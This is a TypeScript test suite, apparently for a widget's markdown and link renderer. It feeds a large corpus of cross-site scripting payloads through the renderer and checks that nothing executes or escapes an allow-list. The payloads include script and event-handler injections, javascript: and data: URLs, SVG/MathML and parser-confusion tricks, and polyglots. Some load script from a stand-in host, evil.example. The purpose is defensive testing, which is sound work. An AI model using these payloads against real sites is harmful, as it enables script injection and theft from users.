import { expect } from '@open-wc/testing';
import { html, render } from 'lit';
import { clean, isSafeImageUrl, link, renderMarkdown, safeLabel } from '../../src/render/index.js';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const P = 'window.__pwned=1';
/**
 * Hostile strings as a bot, an operator, a user, an article card or a file name might carry them.
 * `text` is what a reader must see (whitespace aside) when it differs from the input with unsafe
 * characters neutralised: markdown syntax the renderer consumed.
 */
const corpus: Array<{ input: string; text?: string }> = [
  // Script and active elements.
  { input: `<script>${P}</script>` },
  { input: `<SCRIPT SRC=//evil.example/x.js></SCRIPT>` },
  { input: `<script type="module">import('//evil.example/x.js')</script>` },
  { input: `<img src=x onerror="${P}">` },
  { input: `<img src="x" onerror="${P}"` },
  { input: `<body onload=${P}>` },
  { input: `<iframe src="javascript:parent.__pwned=1"></iframe>` },
  { input: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { input: `<object data="javascript:${P}"></object>` },
  { input: `<embed src="data:text/html,<script>parent.__pwned=1</script>">` },
  { input: `<a href="javascript:${P}">click</a>` },
  { input: `<div style="background:url(javascript:${P})">x</div>` },
  { input: `<style>@import 'https://evil.example/x.css'; *{color:red}</style>` },
  { input: `<link rel=stylesheet href=//evil.example/x.css>` },
  { input: `<base href="https://evil.example/">` },
  { input: `<meta http-equiv="refresh" content="0;url=javascript:${P}">` },
  { input: `<form action="javascript:${P}"><button>x</button></form>` },
  { input: `<input onfocus=${P} autofocus>` },
  { input: `<details open ontoggle=${P}>` },
  { input: `<video><source onerror="${P}"></video>` },
  { input: `<template><script>${P}</script></template>` },
  { input: `<custom-el onclick="${P}"></custom-el>` },
  // SVG and MathML.
  { input: `<svg onload="${P}"><script>${P}</script></svg>` },
  { input: `<svg><animate onbegin=${P} attributeName=x dur=1s>` },
  { input: `<svg><a xlink:href="javascript:${P}"><text x="20" y="20">x</text></a></svg>` },
  { input: `<svg><foreignObject><iframe src="javascript:parent.__pwned=1"></iframe></foreignObject></svg>` },
  { input: `<math><mtext><table><mglyph><style><img src=x onerror=${P}>` },
  { input: `<math href="javascript:${P}">x</math>` },
  { input: `<svg><style><img src=x onerror=${P}></style></svg>` },
  // Broken markup and parser confusion.
  { input: `<<script>script>${P}<</script>/script>` },
  { input: `<scr<script>ipt>${P}</script>` },
  { input: `"><script>${P}</script>` },
  { input: `'><img src=x onerror=${P}>` },
  { input: `</p></li></ul></ol><script>${P}</script>` },
  { input: `<!--<img src="--><img src=x onerror=${P}//">` },
  { input: `<![CDATA[<script>${P}</script>]]>` },
  { input: `<noscript><p title="</noscript><img src=x onerror=${P}>">` },
  { input: `<textarea></textarea><script>${P}</script>` },
  { input: `&lt;script&gt;${P}&lt;/script&gt; &#60;img src=x onerror=${P}&#62;` },
  { input: `<!--?lit$123456$--><?lit$123456$>{{constructor.constructor('${P}')()}} \${${P}}` },
  // Polyglots.
  {
    input: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    // Two emphasis spans and a code span consume their delimiters; every other character shows.
    text: 'jaVasCript:/-//*\\/\'/"/**/(/**/oNcliCk=alert())//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  },
  {
    input: `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${P}//>`,
    text: `javascript:"/'/\`/--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/&lt;svg/*/onload=${P}//>`,
  },
  // Links in every disguise.
  { input: `[click](javascript:${P})` },
  { input: `[click](JaVaScRiPt:${P})` },
  { input: `[click]( javascript:${P})` },
  { input: `[click](java\tscript:${P})` },
  { input: `[click](java\0script:${P})`, text: `[click](java\ufffdscript:${P})` },
  { input: `[click](\x01javascript:${P})`, text: `[click](\ufffdjavascript:${P})` },
  { input: `[click](&#106;avascript:${P})` },
  { input: `[click](&#x6A;avascript&#x3A;${P})` },
  { input: `[click](%6Aavascript:${P})` },
  { input: `[click](javascript%3A${P})` },
  { input: `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)` },
  { input: `[click](data:image/svg+xml,<svg onload=parent.__pwned=1>)` },
  { input: `[click](vbscript:msgbox(1))` },
  { input: `[click](file:///etc/passwd)` },
  { input: `[click](//evil.example/x)` },
  { input: `[click](\\\\evil.example\\x)` },
  { input: `[click](/relative)` },
  { input: `[<img src=x onerror=${P}>](https://ok.example/)`, text: `<img src=x onerror=${P}>` },
  { input: `[x](https://ok.example/"onmouseover="${P})`, text: 'x' },
  { input: `[x](https://ok.example/'><script>${P}</script>)`, text: 'x' },
  { input: `https://ok.example/"><script>${P}</script>` },
  { input: `javascript:${P}` },
  { input: `**<script>${P}</script>**`, text: `<script>${P}</script>` },
  { input: `\`<script>${P}</script>\``, text: `<script>${P}</script>` },
  { input: `- <img src=x onerror=${P}>\n  - <svg onload=${P}>`, text: `<img src=x onerror=${P}><svg onload=${P}>` },
  { input: '[[[[[[x]]]]]](https://ok.example/)' },
  // Invisible and reordering characters, emoji, surrogates, NUL.
  { input: `java\u200bscript:${P}` },
  { input: `invoice\u202Egnp.exe` },
  { input: `\u2066abc\u2069 \u202Dforced\u202C` },
  { input: 'مرحبا بالعالم — שלום עולם' },
  { input: '👩‍👩‍👧‍👦 🇯🇵 ✌🏽 𠮷野家' },
  { input: 'lone \ud800 high and \udc00 low surrogates' },
  { input: `a\0b\0<script>${P}</script>\0` },
  { input: '\x1b[31mred\x1b[0m\x07\x08' },
  { input: '\ufeff\u200b\u200c\u200d\u2060\u00ad' },
];

/** Elements the renderer may create, and the attributes each may have. */
const allowed: Record<string, string[]> = {
  P: [], BR: [], STRONG: [], EM: [], CODE: [], UL: [], LI: [],
  OL: ['start'],
  A: ['href', 'target', 'rel'],
  SPAN: [],
};

/** Everything one hostile string turns into, in every place the widget shows untrusted text. */
const everywhere = (s: string) => html`<span>${renderMarkdown(s)}</span><span>${link(s, s)}</span><span
    >${link('https://help.example/a', s)}</span
  ><span>${link(s, 'Article')}</span><span>${safeLabel(s)}</span>`;

function assertInert(container: Element) {
  for (const el of container.querySelectorAll('*')) {
    expect(Object.keys(allowed), `<${el.localName}> created`).to.include(el.tagName);
    for (const attr of el.getAttributeNames()) expect(allowed[el.tagName], `${el.localName}[${attr}]`).to.include(attr);
  }
  expect(container.querySelectorAll('script, iframe, object, embed, svg, math, style, img, link, base, meta, form').length).to.equal(0);
  for (const a of container.querySelectorAll('a')) {
    expect(['https:', 'http:', 'mailto:', 'tel:']).to.include(new URL(a.href).protocol);
    expect(a.getAttribute('target')).to.equal('_blank');
    expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
  }
}

const squash = (s: string) => s.replace(/\s+/g, '');

describe('render (hostile input)', () => {
  let container: HTMLElement;
  beforeEach(() => {
    delete window.__pwned;
    container = document.createElement('div');
    document.body.append(container);
  });
  afterEach(() => container.remove());

  it('detects script execution with its canary (control)', async () => {
    // Proves the canary and the wait below would catch a handler that runs.
    const img = document.createElement('img');
    img.setAttribute('onerror', P);
    img.src = 'data:,not-an-image';
    container.append(img);
    await new Promise((r) => setTimeout(r, 100));
    expect(window.__pwned).to.equal(1);
  });

  for (const { input, text } of corpus) {
    it(`renders ${JSON.stringify(input.slice(0, 70))} inertly`, async () => {
      render(everywhere(input), container);
      await new Promise((r) => setTimeout(r, 50));
      expect(window.__pwned).to.equal(undefined);
      assertInert(container);
      // Nothing lost: the message shows every character, as text (unsafe ones as U+FFFD).
      expect(squash(container.firstElementChild!.textContent!)).to.equal(squash(text ?? clean(input)));
      expect(container.querySelectorAll('span')[4].textContent).to.equal(safeLabel(input));
    });
  }

  it('renders every hostile string at once, still inert', async () => {
    render(corpus.map(({ input }) => everywhere(input)), container);
    await new Promise((r) => setTimeout(r, 100));
    expect(window.__pwned).to.equal(undefined);
    assertInert(container);
    expect(container.querySelectorAll('a').length).to.be.greaterThan(5);
  });

  it('renders 1 MB of hostile markup inertly', async () => {
    const input = (`<img src=x onerror=${P}><script>${P}</script>[x](javascript:${P}) `).repeat(16_000);
    expect(input.length).to.be.greaterThan(1_000_000);
    render(renderMarkdown(input), container);
    await new Promise((r) => setTimeout(r, 50));
    expect(window.__pwned).to.equal(undefined);
    assertInert(container);
    expect(container.textContent!.length).to.equal(input.length);
  });

  it('renders deeply nested lists flat, one nesting level at most', () => {
    const input = Array.from({ length: 2000 }, (_, i) => ' '.repeat(i) + '- level ' + i).join('\n');
    render(renderMarkdown(input), container);
    assertInert(container);
    expect(container.querySelectorAll('ul ul ul').length).to.equal(0);
    expect(container.querySelectorAll('ul ul').length).to.equal(1);
  });

  it('never shows an image from outside the upload origins or blob:', () => {
    for (const { input } of corpus) expect(isSafeImageUrl(input, ['https://files.example.com'])).to.be.false;
  });
});
